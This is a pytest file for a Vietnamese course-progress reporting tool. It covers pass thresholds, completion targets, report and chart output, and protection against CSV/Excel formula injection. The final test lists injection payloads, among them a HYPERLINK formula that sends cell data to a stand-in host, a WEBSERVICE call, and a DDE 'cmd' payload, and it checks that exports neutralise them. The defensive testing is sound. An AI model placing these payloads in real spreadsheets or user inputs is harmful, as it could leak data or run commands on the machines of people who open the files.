"""Pass rules and the report of a class before anything is released."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from aiwork.cli import main
from aiwork.decree30 import check_docx
from aiwork.trainer import policy
from aiwork.trainer.stats import Progress


def test_pass_threshold_is_inclusive():
    assert policy.PASS_PERCENT == 70.0
    assert policy.passes(12.6, 18)  # exactly 70%
    assert not policy.passes(12.5, 18)
    assert not policy.passes(0, 0)  # a module without points is never "passed"


@pytest.mark.parametrize(
    "n, done, short", [(10, 7, 1), (10, 8, 0), (3, 2, 1), (40, 31, 1), (40, 32, 0), (0, 0, 0)]
)
def test_shortfall_to_target(n, done, short):
    learners = pd.DataFrame({"hoan_thanh": [True] * done + [False] * (n - done)})
    p = Progress(pd.DataFrame(), [], learners, pd.DataFrame(), pd.DataFrame())
    assert policy.TARGET_PERCENT == 80.0
    assert p.shortfall == short
    assert p.meets_target == (n > 0 and done * 100 >= 80 * n)


def test_report_before_any_release(tmp_path):
    roster = tmp_path / "ds.csv"
    roster.write_text(
        "Mã học viên,Họ và tên,Đơn vị,Email\nhv001,Nguyễn Văn An,Sở Nội vụ,an@vi-du.example\n",
        encoding="utf-8",
    )
    root = tmp_path / "lop"
    assert (
        main(
            [
                "cohort",
                "init",
                str(root),
                "--roster",
                str(roster),
                "--exchange",
                str(tmp_path / "ex"),
            ]
        )
        == 0
    )
    out = tmp_path / "bc" / "bao-cao"  # no suffix: .docx is added
    assert main(["report", "--course", str(root), "--out", str(out)]) == 0
    docx = out.with_suffix(".docx")
    assert check_docx(docx) == []
    with open(docx.with_suffix(".csv"), encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["Mã học viên"], r["Số bài đã nộp"], r["Hoàn thành"]) for r in rows] == [
        ("hv001", "0", "Không")
    ]


def test_charts_have_vietnamese_glyphs_and_target_line():
    from aiwork.reporting import charts as style
    from aiwork.trainer import charts

    units = pd.DataFrame(
        {
            "don_vi": ["Sở Khoa học và Công nghệ", "Trung tâm Phục vụ hành chính công tỉnh"],
            "ty_le_hoan_thanh": [90.0, 62.5],
            "dat_muc_tieu": [True, False],
        }
    )
    modules = pd.DataFrame({"ty_le_nop": [95.0, 80.0], "ty_le_dat": [85.0, 61.0]})
    p = Progress(pd.DataFrame(), [], pd.DataFrame(), units, modules)
    for fig in (charts.units_against_target(p), charts.modules_progress(p)):
        texts = style.chart_texts(fig)
        assert not style.missing_glyphs("".join(texts))
        assert any("Mục tiêu 80%" in t or "Đạt (từ 70% số điểm)" in t for t in texts)
        assert charts.png(fig).startswith(b"\x89PNG")


INJECTED = [
    '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào")',
    '=WEBSERVICE("http://x.example")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def test_report_cells_are_inert_against_formula_injection(tmp_path):
    """Roster text that reached a report (from a class imported before the roster refused it,
    or any future path) is stored as text in every sheet and escaped in the CSV."""
    from openpyxl import load_workbook

    from aiwork.trainer import stats
    from aiwork.trainer.cohort import Cohort
    from aiwork.trainer.report import headline, write_tables

    roster = tmp_path / "ds.csv"
    roster.write_text(
        "Mã học viên,Họ và tên,Đơn vị,Email\n"
        + "".join(
            f"hv00{i},Nguyễn Văn An,Sở Nội vụ {i},an{i}@vi-du.example\n"
            for i in range(len(INJECTED))
        ),
        encoding="utf-8",
    )
    root = tmp_path / "lop"
    exchange = str(tmp_path / "ex")
    assert main(["cohort", "init", str(root), "--roster", str(roster), "--exchange", exchange]) == 0
    cohort = Cohort.open(root)
    p = stats.progress(cohort)
    assert p.long.empty  # nothing released yet: one detail row per injected text, by hand
    p.long = pd.DataFrame(
        [
            {
                **dict.fromkeys(stats.LONG_COLUMNS, ""),
                "ma_hoc_vien": f"hv00{i}",
                "don_vi": f"Sở Nội vụ {i}",
                "mo_dun": text,
                "da_nop": False,
                "da_cham": False,
                "dat": False,
            }
            for i, text in enumerate(INJECTED)
        ],
        columns=stats.LONG_COLUMNS,
    )
    for i, text in enumerate(INJECTED):
        unit = f"Sở Nội vụ {i}"
        for table in (p.learners, p.units, p.long):
            table.loc[table["don_vi"] == unit, "don_vi"] = text
        p.learners.loc[p.learners["ma_hoc_vien"] == f"hv00{i}", "ho_va_ten"] = text
    xlsx, csv_path = tmp_path / "bc.xlsx", tmp_path / "bc.csv"
    write_tables(p, xlsx, csv_path, headline(p, cohort))

    wb = load_workbook(xlsx)
    seen = set()
    for sheet in ("Học viên", "Đơn vị", "Chi tiết"):
        for row in wb[sheet].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
                if cell.value in INJECTED:
                    assert cell.quotePrefix, (sheet, cell.coordinate)
                    seen.add((sheet, cell.value))
    assert {s for s, _ in seen} == {"Học viên", "Đơn vị", "Chi tiết"}
    assert {v for _, v in seen} == set(INJECTED)

    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert {f"'{t}" for t in INJECTED} <= set(cells)
